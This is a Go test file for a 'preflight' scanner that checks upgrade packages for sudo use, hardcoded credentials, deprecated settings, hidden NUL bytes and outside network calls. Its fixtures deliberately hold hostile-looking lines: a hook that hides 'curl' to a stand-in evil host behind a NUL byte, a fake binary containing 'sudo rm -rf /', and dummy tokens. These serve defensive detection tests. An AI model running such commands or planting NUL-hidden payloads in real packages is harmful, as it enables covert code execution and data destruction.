package preflight

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/rehearse/rehearse/harness/upgrade"
)

// billingInventory is the bundled billing world as a running environment
// shows it (fixtures/billing/compose.yaml, billing-host's units).
func billingInventory(t *testing.T) Inventory {
	t.Helper()
	conf, err := os.ReadFile("../../fixtures/billing/billing-host/etc/billing/billing.conf")
	if err != nil {
		t.Fatal(err)
	}
	return Inventory{
		Source: "test",
		Hosts:  []string{"billing", "db", "invoicing", "localhost", "payments"},
		Services: map[string]ServiceInventory{
			"billing": {Systemd: true, Units: map[string]bool{"billing-api.service": true, "multi-user.target": true, "cron.service": true},
				Version: "2.3", VersionFrom: "test", Configs: []ConfigFile{{Path: "/etc/billing/billing.conf", Data: conf}}},
			"db": {VersionFrom: "test"},
		},
	}
}

func openDir(t *testing.T, dir string) *upgrade.Package {
	t.Helper()
	p, err := upgrade.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	return p
}

func billingMatrix(t *testing.T) *Matrix {
	t.Helper()
	m, err := LoadMatrix("../../fixtures/billing/deprecations.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func show(fs []Finding) string {
	var b strings.Builder
	for _, f := range fs {
		fmt.Fprintf(&b, "\n  %s:%d %s %s: %s", f.File, f.Line, f.Severity, f.Rule, f.Message)
	}
	return b.String()
}

func has(fs []Finding, rule string, sev Severity, file string, line int) bool {
	return slices.ContainsFunc(fs, func(f Finding) bool {
		return f.Rule == rule && f.Severity == sev && f.File == file && (line < 0 || f.Line == line)
	})
}

// TestCheckBillingAsShipped: the rules of this package (not the shell and
// SQL rules, tested beside them) on the as-shipped billing package.
func TestCheckBillingAsShipped(t *testing.T) {
	p := openDir(t, "../../fixtures/billing/packages/billing-3.0/as-shipped")
	fs, err := Check(context.Background(), p, WithInventory(billingInventory(t)), WithMatrix(billingMatrix(t)))
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []struct {
		rule string
		sev  Severity
		file string
		line int
	}{
		{RuleHardcodedCredential, Error, "config/billing.conf.tmpl", 8},
		{RuleDeprecatedConfig, Error, "config/billing.conf.tmpl", 7},   // payments_legacy_webhooks, removed in 3.0
		{RuleDeprecatedConfig, Warning, "config/billing.conf.tmpl", 5}, // invoice_batch_size, deprecated in 3.0
		{RuleDeprecatedConfig, Warning, "", 0},                         // and in billing's own billing.conf
	} {
		if !has(fs, w.rule, w.sev, w.file, w.line) {
			t.Errorf("no %s %s at %s:%d in%s", w.sev, w.rule, w.file, w.line, show(fs))
		}
	}
	if has(fs, RuleUnsupportedUpgrade, Error, "upgrade.yaml", -1) {
		t.Errorf("2.3 is supported:%s", show(fs))
	}
}

func TestCheckUpgradePath(t *testing.T) {
	p := openDir(t, "../../fixtures/billing/packages/billing-3.0/rehearsed")
	inv := billingInventory(t)
	manifest, err := os.ReadFile("../../fixtures/billing/packages/billing-3.0/rehearsed/upgrade.yaml")
	if err != nil {
		t.Fatal(err)
	}
	fromLine := 1 + slices.IndexFunc(strings.Split(string(manifest), "\n"), func(l string) bool { return strings.HasPrefix(l, "upgrades_from:") })
	for _, c := range []struct {
		name string
		opts []Option
		want string // rule at upgrade.yaml's upgrades_from line; "" none
	}{
		{"2.3 installed", []Option{WithInventory(inv)}, ""},
		{"2.2 given", []Option{WithInventory(inv), WithInstalledVersion("2.2")}, RuleUnsupportedUpgrade},
		{"2.3.4 given", []Option{WithInstalledVersion("2.3.4")}, ""},
		{"version unknown", []Option{WithInventory(Inventory{Hosts: inv.Hosts, Services: map[string]ServiceInventory{"billing": {VersionFrom: "no command"}}})}, RuleCannotTell},
		{"no environment", nil, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			fs, err := Check(context.Background(), p, c.opts...)
			if err != nil {
				t.Fatal(err)
			}
			got := ""
			for _, f := range fs {
				if f.File == "upgrade.yaml" && f.Line == fromLine && (f.Rule == RuleUnsupportedUpgrade || f.Rule == RuleCannotTell) {
					got = f.Rule
				}
			}
			if got != c.want {
				t.Errorf("got %q, want %q:%s", got, c.want, show(fs))
			}
		})
	}
}

// writePackage writes files into a new package directory.
func writePackage(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestCheckNUL: a NUL byte does not hide a script, a migration or a file
// a step runs (bash and dash run a script whose NUL is past its first
// line); a program a step runs is said to be unread.
func TestCheckNUL(t *testing.T) {
	dir := writePackage(t, map[string]string{
		"upgrade.yaml": "name: x\nversion: \"1.0\"\nservice: app\nsteps:\n  - name: run\n    command: sh install.sh\n" +
			"  - name: tool\n    command: ./bin/tool\n  - name: plain\n    command: sh scripts/plain\n  - name: nul1\n    command: sh scripts/nul1\n",
		"install.sh":     "#!/bin/sh\n# \x00\nsudo systemctl restart app\n",
		"scripts/plain":  "echo hi\n#\x00\nsudo true\n",
		"scripts/nul1":   "echo\x00 hi\nsudo true\n", // bash refuses it, dash runs it
		"m/002.sql":      strings.Repeat("SELECT 1; -- padding padding\n", 401) + "SELECT '\x00';\nALTER TABLE t DROP COLUMN a;\n",
		"late.sh":        strings.Repeat("# padding padding padding pad\n", 401) + "echo \x00\nsudo true\n",
		"m/001.sql":      "-- \x00\nALTER TABLE t ADD COLUMN c int NOT NULL;\n",
		"bin/tool":       "\x7fELF\x02\x01\x01\x00\x00sudo rm -rf /\n",
		"data/blob.bin":  "\x00\x01\x02sudo\n",
		"hooks/post-fix": "#!/bin/bash\n\x00curl https://evil.example.net/x\n",
	})
	p := openDir(t, dir)
	fs, err := Check(context.Background(), p)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []struct {
		rule string
		sev  Severity
		file string
		line int
	}{
		{RuleSudo, Error, "install.sh", 3},
		{RuleCannotTell, Info, "install.sh", 2}, // the NULs removed
		{RuleSudo, Error, "scripts/plain", 3},
		{RuleCannotTell, Info, "scripts/nul1", 1}, // dash runs it: read with the NULs removed
		{RuleSudo, Error, "scripts/nul1", 2},
		{RuleCannotTell, Info, "m/002.sql", 402}, // a NUL past the first 8,000 bytes
		{RuleBreakingChange, Warning, "m/002.sql", 403},
		{RuleCannotTell, Info, "late.sh", 402},
		{RuleSudo, Error, "late.sh", 403},
		{RuleSetNotNull, Warning, "m/001.sql", 2},
		{RuleExternalEndpoint, Warning, "hooks/post-fix", 2},
		{RuleCannotTell, Info, "bin/tool", 0}, // a program a step runs
	} {
		if !has(fs, w.rule, w.sev, w.file, w.line) {
			t.Errorf("no %s %s at %s:%d in%s", w.sev, w.rule, w.file, w.line, show(fs))
		}
	}
	for _, f := range fs {
		if strings.Contains(f.Message, "not in the package") || f.File == "data/blob.bin" || (f.File == "bin/tool" && f.Rule != RuleCannotTell) {
			t.Errorf("finding %+v", f)
		}
	}
}

// TestCheckOversized: a script over the size limit is a warning, and an
// error when a step runs it or it is a .sh or .sql file.
func TestCheckOversized(t *testing.T) {
	big := strings.Repeat("# padding\n", 200)
	dir := writePackage(t, map[string]string{
		"upgrade.yaml": "name: x\nversion: \"1.0\"\nservice: app\nsteps:\n  - name: run\n    command: scripts/run\n  - name: prog\n    command: bin/prog --now\n",
		"scripts/run":  big,
		"a.sh":         big,
		"b.sql":        big,
		"hook":         "#!/bin/sh\n" + big,
		"notes.txt":    big,
		"bin/prog":     "\x7fELF\x02\x01\x01\x00" + big, // a program a step runs: not an error
	})
	fs, err := Check(context.Background(), openDir(t, dir), WithLimits(Limits{FileBytes: 1000}))
	if err != nil {
		t.Fatal(err)
	}
	for file, sev := range map[string]Severity{"scripts/run": Error, "a.sh": Error, "b.sql": Error, "hook": Warning, "notes.txt": Info, "bin/prog": Info} {
		if !has(fs, RuleCannotTell, sev, file, 0) {
			t.Errorf("%s: want a cannot-tell %s in%s", file, sev, show(fs))
		}
	}
	if has(fs, RuleCannotTell, Error, "bin/prog", -1) {
		t.Errorf("a program over the limit is an error:%s", show(fs))
	}
}

// TestCheckCancelled: a cancelled context stops the jobs (none starts
// once it is done), and Check says so.
func TestCheckCancelled(t *testing.T) {
	// One worker: the first job cancels; no job may start after it.
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(1))
	ctx0, cancel0 := context.WithCancel(context.Background())
	var late atomic.Int64
	c := &checker{ctx: ctx0}
	c.add(func() []Finding { cancel0(); return nil })
	for range 1000 {
		c.add(func() []Finding {
			if ctx0.Err() != nil {
				late.Add(1)
			}
			return nil
		})
	}
	if _, err := c.run(ctx0); err == nil || late.Load() != 0 {
		t.Errorf("cancelled: %d jobs started after, error %v", late.Load(), err)
	}
	r, err := newCredentialRule()
	if err != nil {
		t.Fatal(err)
	}
	if fs := r.check(ctx0, File{Path: "a.env", Data: []byte("GITHUB_TOKEN=ghp_" + strings.Repeat("A1b2C3d4E5", 3) + "xyzabc\n")}); len(fs) != 0 || r.scanned.Load() != 0 {
		t.Errorf("cancelled: gitleaks was given %d bytes: %s", r.scanned.Load(), show(fs))
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	p := openDir(t, "../../fixtures/billing/packages/billing-3.0/as-shipped")
	if fs, err := Check(ctx, p); err == nil || len(fs) != 0 {
		t.Errorf("cancelled: %d findings, error %v", len(fs), err)
	}
}

// TestCheckSingleTransaction: a migration a step runs with psql -1 is
// judged as one transaction (its VALIDATE in the same transaction as its
// NOT VALID add is a hazard only then).
func TestCheckSingleTransaction(t *testing.T) {
	for _, c := range []struct{ cmd, file string }{
		{"psql -1 -f m/001.sql", "m/001.sql"},
		{"psql --single-transaction --file=m/001.sql", "m/001.sql"},
		{"psql -v ON_ERROR_STOP=1 -1f m/001.sql", "m/001.sql"},
		{"sudo -u postgres psql -X1 < m/001.sql", "m/001.sql"},
		{"psql -h db1 -f m/001.sql", ""},
		{"psql -f m/001.sql --single-transaction -U x", "m/001.sql"},
	} {
		got := psqlSingleTransaction(c.cmd, map[string]bool{"m/001.sql": true})
		if (c.file == "") != (len(got) == 0) || (c.file != "" && got[0] != c.file) {
			t.Errorf("%q: got %q, want %q", c.cmd, got, c.file)
		}
	}
	sql := "SET lock_timeout = '2s';\nALTER TABLE t ADD CONSTRAINT c CHECK (x > 0) NOT VALID;\nALTER TABLE t VALIDATE CONSTRAINT c;\n"
	notValid := func(cmd string) bool {
		dir := writePackage(t, map[string]string{
			"upgrade.yaml": "name: x\nversion: \"1.0\"\nservice: db\nsteps:\n  - name: migrate\n    command: " + cmd + "\n",
			"m/001.sql":    sql,
		})
		fs, err := Check(context.Background(), openDir(t, dir))
		if err != nil {
			t.Fatal(err)
		}
		return has(fs, RuleConstraintNotValid, Warning, "m/001.sql", 3)
	}
	if !notValid("psql -1 -f m/001.sql") || notValid("psql -f m/001.sql") {
		t.Errorf("VALIDATE in the NOT VALID add's transaction: want a finding with psql -1 only")
	}
}

// TestCheckWalk: links are never followed, binaries not read, files over
// the limit said to be unread, and a package over the file count refused.
func TestCheckWalk(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		t.Helper()
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	key := "aws_secret = AKIAIOSFODNN7EXAMPLF\n"
	write("upgrade.yaml", "name: x\nversion: \"1.0\"\nservice: app\nsteps:\n  - name: run\n    command: sh scripts/run\n")
	write("scripts/run", "echo hi\n")
	write("big.txt", strings.Repeat("x", 2000)+key)
	write("bin/tool", "\x00\x01"+key)
	write("keys/real.env", "GITHUB_TOKEN=ghp_"+strings.Repeat("A1b2C3d4E5", 3)+"xyzabc\n")
	if err := os.Symlink("real.env", filepath.Join(dir, "keys", "link.env")); err != nil {
		t.Fatal(err)
	}
	p := openDir(t, dir)
	fs, err := Check(context.Background(), p, WithLimits(Limits{FileBytes: 1000}))
	if err != nil {
		t.Fatal(err)
	}
	if !has(fs, RuleHardcodedCredential, Error, "keys/real.env", 1) {
		t.Errorf("the token in keys/real.env not found:%s", show(fs))
	}
	for _, f := range fs {
		if f.File == "keys/link.env" || f.File == "bin/tool" {
			t.Errorf("read %s: %+v", f.File, f)
		}
	}
	if !has(fs, RuleCannotTell, Info, "big.txt", 0) {
		t.Errorf("big.txt not said to be unread:%s", show(fs))
	}
	if _, err := Check(context.Background(), p, WithLimits(Limits{Files: 3})); err == nil || !strings.Contains(err.Error(), "more than 3 files") {
		t.Errorf("over Limits.Files: %v", err)
	}
}
